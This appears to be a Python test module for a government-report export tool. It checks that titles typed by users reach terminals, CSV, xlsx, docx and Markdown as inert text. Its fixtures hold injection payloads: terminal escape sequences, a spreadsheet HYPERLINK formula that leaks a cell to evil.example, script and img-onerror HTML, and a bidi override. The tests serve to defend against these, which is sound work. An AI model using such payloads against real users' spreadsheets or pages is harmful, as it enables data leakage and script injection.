"""Text is data: what people typed reaches a terminal, a spreadsheet or a document as they typed
it, never as a control sequence, markup, HTML or a formula, and never crashes an export.

The reproductions are those of the reliability review (S4 to S7, F8): a title with ESC
sequences printed by the command line, formula-like titles in xlsx and CSV, HTML in Markdown,
Word's soft line break in xlsx and docx, and `-o FILE --force` over what is not a file.
"""

from __future__ import annotations

import csv
import io
import os
import socket
import stat
import tempfile
from pathlib import Path

import msgspec
import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from govinfo_tui.cli import output
from govinfo_tui.core import events as E
from govinfo_tui.core import export, reports
from govinfo_tui.core.state import fold
from govinfo_tui.core.text import looks_like_formula, printable, visible
from govinfo_tui.tui import fmt

from .conftest import MARCH, gv, small_events, write_journal

ESC_TITLE = "\x1b]0;PWNED\x1b\\\x1b[2J\x1b[31mRED\x1b[0m"
ESC_SHOWN = "\\x1b]0;PWNED\\x1b\\\\x1b[2J\\x1b[31mRED\\x1b[0m"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&B3,"详情")', "+1", "-2", "@SUM(1+1)"]
TYPED = "[bold]红[/bold] 👨\u200d👩\u200d👧 文江镇"  # brackets, an emoji sequence, CJK: all as typed


def titled(*titles: str, unit_name: str = "文江镇", parent: str = "gx") -> list[E.Event]:
    """The small journal with its items A1, A2, ... retitled (all of them are adopted but A4) and
    township wj renamed and moved under `parent`."""
    names = dict(zip(["A1", "A2", "A3", "A5", "A4"], titles, strict=False))
    out: list[E.Event] = []
    for ev in small_events():
        if isinstance(ev, E.ItemSubmitted) and ev.item in names:
            ev = msgspec.structs.replace(ev, title=names[ev.item])
        elif isinstance(ev, E.UnitRegistered) and ev.unit == "wj":
            ev = msgspec.structs.replace(ev, name=unit_name, parent=parent)
        out.append(ev)
    return out


# --- the one rule ----------------------------------------------------------------------


def test_visible_shows_controls_and_keeps_the_rest():
    assert visible(ESC_TITLE) == ESC_SHOWN
    assert visible("a\rb\x07c\x9bd\x7f") == "a\\x0db\\x07c\\x9bd\\x7f"
    assert visible("甲\n乙") == "甲\\n乙" and visible("甲\n乙", lines=True) == "甲\n乙"
    assert visible("a\tb") == "a b"
    assert visible("abc\u202egnp.exe") == "abc\\u202egnp.exe"  # a bidi override is shown, not obeyed
    assert visible(TYPED) == TYPED
    assert visible(None) == ""
    assert fmt.safe is visible  # the app and the command line share it


def test_printable_keeps_layout_and_drops_what_xml_cannot_hold():
    assert printable("soft\x0bbreak") == "soft\nbreak"  # Word's soft line break
    assert printable("a\tb\nc\r\n") == "a\tb\nc\r\n"
    assert printable("\x00\x1b\x7f\x85\ufffe\uffff") == "\\x00\\x1b\\x7f\\x85\\ufffe\\uffff"
    assert printable(TYPED) == TYPED


def test_formula_starts():
    assert all(looks_like_formula(f) for f in [*FORMULAS, "\tx", "\rx"])
    assert not any(looks_like_formula(f) for f in ["文江镇", " =1", "1+1", "'=1", ""])


# --- S4: the terminal ------------------------------------------------------------------


def test_s4_command_line_prints_escapes_not_escape_sequences(tmp_path):
    root = write_journal(
        tmp_path / "j", titled(ESC_TITLE, TYPED, unit_name="文江镇\x1b]0;UNITPWN\x07", parent="\x1b[2J")
    )
    outputs = {
        "changes": gv(root, "report", "changes", "--period", "2011-03"),
        "ranking": gv(root, "report", "ranking", "--period", "2011-03"),
        "notice": gv(root, "report", "notice", "--period", "2011-03"),
        "notice md": gv(root, "report", "notice", "--period", "2011-03", "--format", "md"),
        "check": gv(root, "check"),
    }
    for name, (code, out, err) in outputs.items():
        assert code in (0, 1), (name, err)
        assert "\x1b" not in out and "\x07" not in out, name
    assert ESC_SHOWN in outputs["changes"][1] and TYPED in outputs["changes"][1]
    assert "文江镇\\x1b]0;UNITPWN\\x07" in outputs["ranking"][1]
    assert ESC_SHOWN in outputs["notice"][1] and TYPED in outputs["notice"][1]
    assert "parent \\x1b[2J is not registered" in outputs["check"][1]
    # Markdown escapes the backslash of the escape too: a viewer shows \x1b
    assert ESC_SHOWN.replace("\\", "\\\\") in outputs["notice md"][1]


def test_s4_a_forged_line_stays_on_its_line(tmp_path):
    root = write_journal(tmp_path / "j", titled("甲", parent="gx\n0 events, 0 items, 0 problems"))
    code, out, _ = gv(root, "check")
    assert code == 1
    assert out.splitlines()[-1].endswith("1 problem")
    assert "parent gx\\n0 events, 0 items, 0 problems is not registered" in out


# --- S5: formulas ----------------------------------------------------------------------


def test_s5_xlsx_holds_formula_like_text_as_text(tmp_path):
    root = write_journal(tmp_path / "j", titled(*FORMULAS, unit_name="=2*3"))
    out = tmp_path / "n.xlsx"
    code, _, err = gv(root, "report", "notice", "--period", "2011-03", "--format", "xlsx", "-o", str(out))
    assert code == 0, err
    wb = load_workbook(out)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for title in [*FORMULAS, "=2*3"]:
        cell = texts[title]  # as typed, no apostrophe added
        assert cell.data_type == "s" and cell.quotePrefix, title
    assert texts["庆符镇"].data_type == "s" and not texts["庆符镇"].quotePrefix
    sheet = wb["乡镇信息报送采用情况"]
    points = [r[-1].value for r in sheet.iter_rows(min_row=2) if r[-1].value is not None]
    assert points and all(isinstance(p, int | float) for p in points)  # numbers stay numbers


@pytest.mark.parametrize("dialect", ["scripts", "people"])
def test_s5_csv_prefixes_formula_like_text_and_keeps_numbers(dialect):
    rows = [{"title": t, "points": -2, "share": -0.5} for t in [*FORMULAS, "\tTAB", "\rCR", "文江镇"]]
    report = export.from_rows("rows", rows)
    data = export.render(report, "csv", dialect=dialect).decode("utf-8-sig")
    got = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [r[0] for r in got] == [*("'" + t for t in FORMULAS), "'\tTAB", "'\nCR", "文江镇"]  # CR: see the module
    assert {r[1] for r in got} == {"-2"} and {r[2] for r in got} == {"-0.5"}


def test_s5_csv_of_a_paper_and_of_a_query_from_the_command_line(tmp_path):
    root = write_journal(tmp_path / "j", titled(*FORMULAS, unit_name="=2*3"))
    code, out, err = gv(root, "report", "notice", "--period", "2011-03", "--format", "csv", "--table", "adoptions")
    assert code == 0, err
    fields = [f for row in csv.reader(io.StringIO(out.lstrip("\ufeff"))) for f in row]
    assert '\'=HYPERLINK("http://evil.example/?leak="&B3,"详情")' in fields and "'=2*3" in fields
    assert not [f for f in fields if looks_like_formula(f)]
    code, out, err = gv(root, "report", "ranking", "--period", "2011-03", "--format", "csv")
    assert code == 0, err
    assert "'=2*3" in [f for row in csv.reader(io.StringIO(out.lstrip("\ufeff"))) for f in row]


# --- S7: HTML in Markdown --------------------------------------------------------------


def test_s7_markdown_escapes_html():
    r = reports.notice(fold(titled("<script>alert(1)</script>", "<img src=x onerror=alert(1)> & co")), MARCH)
    md = export.render(r, "md").decode("utf-8")
    assert "<script" not in md and "<img" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "&lt;img src=x onerror=alert(1)&gt; &amp; co" in md
    r.data["adoptions"][0]["title"] = "甲\n乙"
    assert "甲<br>乙" in export.render(r, "md").decode("utf-8")  # the line break the writer makes stays HTML


# --- F8: controls in files -------------------------------------------------------------


def test_f8_controls_in_a_title_export_to_xlsx_and_docx(tmp_path):
    controls = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r\x0b")
    root = write_journal(tmp_path / "j", titled("soft\x0bbreak", "c" + controls + "\x7f\ufffe", ESC_TITLE))
    for fmt_ in ("xlsx", "docx"):
        code, _, err = gv(
            root, "report", "notice", "--period", "2011-03", "--format", fmt_, "-o", str(tmp_path / f"n.{fmt_}")
        )
        assert code == 0, err
    values = [c.value for ws in load_workbook(tmp_path / "n.xlsx") for row in ws.iter_rows() for c in row]
    assert "soft\nbreak" in values and ESC_SHOWN in values
    assert "c" + visible(controls) + "\\x7f\\ufffe" in values
    doc = Document(str(tmp_path / "n.docx"))
    cells = [c.text for t in doc.tables for row in t.rows for c in row.cells]
    assert "soft\nbreak" in cells and ESC_SHOWN in cells


# --- S6: what -o may replace -----------------------------------------------------------


def _specials(folder: Path) -> dict[Path, str]:
    """A FIFO, a socket, symbolic links (to a file and to nowhere) and, where allowed, a
    device node (a copy of /dev/null's, in a temporary folder): each with what the error calls it."""
    os.mkfifo(folder / "fifo")
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(folder / "sock"))
    (folder / "precious.txt").write_text("keep")
    (folder / "link").symlink_to(folder / "precious.txt")
    (folder / "dangling").symlink_to(folder / "nowhere.txt")
    out = {folder / "fifo": "FIFO", folder / "sock": "socket", folder / "link": "symbolic link"}
    out[folder / "dangling"] = "symbolic link"
    try:
        os.mknod(folder / "null", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        out[folder / "null"] = "character device"
    except PermissionError:  # not root: a FIFO and a socket stand for every special file
        pass
    return out


def test_s6_force_never_replaces_what_is_not_a_regular_file(small, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    for path, what in _specials(folder).items():
        before = path.lstat()
        for fmt_ in ("md", "xlsx", "table"):
            code, _, err = gv(
                small, "report", "notice", "--period", "2011-03", "--format", fmt_, "-o", str(path), "--force"
            )
            assert code == 2 and f"is a {what}" in err and "not a regular file" in err, (path, err)
            after = path.lstat()
            assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino), path
    assert (folder / "precious.txt").read_text() == "keep" and not (folder / "nowhere.txt").exists()
    assert [p.name for p in folder.iterdir() if p.name.startswith(".")] == []  # no temporary left behind
    with pytest.raises(export.ExportError, match="FIFO"):
        export.write(reports.notice(fold(small_events()), MARCH), "md", folder / "fifo", force=True)


# --- any text at all -------------------------------------------------------------------


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=60))
def test_any_title_survives_every_format(title):
    report = reports.notice(fold(titled(title, "=" + title, "-" + title)), MARCH)
    with tempfile.TemporaryDirectory() as tmp:
        for f in export.FORMATS:
            export.write(report, f, Path(tmp) / f"n.{f}")
        cells = [c for ws in load_workbook(Path(tmp) / "n.xlsx") for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert printable(title) in [c.value for c in cells]
        Document(str(Path(tmp) / "n.docx"))
    for dialect in ("scripts", "people"):
        for table in report.tables():
            data = export.render(report, "csv", table=table.key, dialect=dialect).decode("utf-8-sig")
            for field in (f for row in csv.reader(io.StringIO(data)) for f in row):
                assert not looks_like_formula(field) or _is_number(field), field
    md = export.render(report, "md").decode("utf-8")
    assert "<" not in md.replace("<br>", "")
    text = io.StringIO()
    output._draw_paper(report, output._console(text, plain=True))
    assert not [ch for ch in text.getvalue() if ch != "\n" and (ch < " " or "\x7f" <= ch < "\xa0")]


def _is_number(field: str) -> bool:
    try:
        float(field.rstrip("%"))
    except ValueError:
        return False
    return True
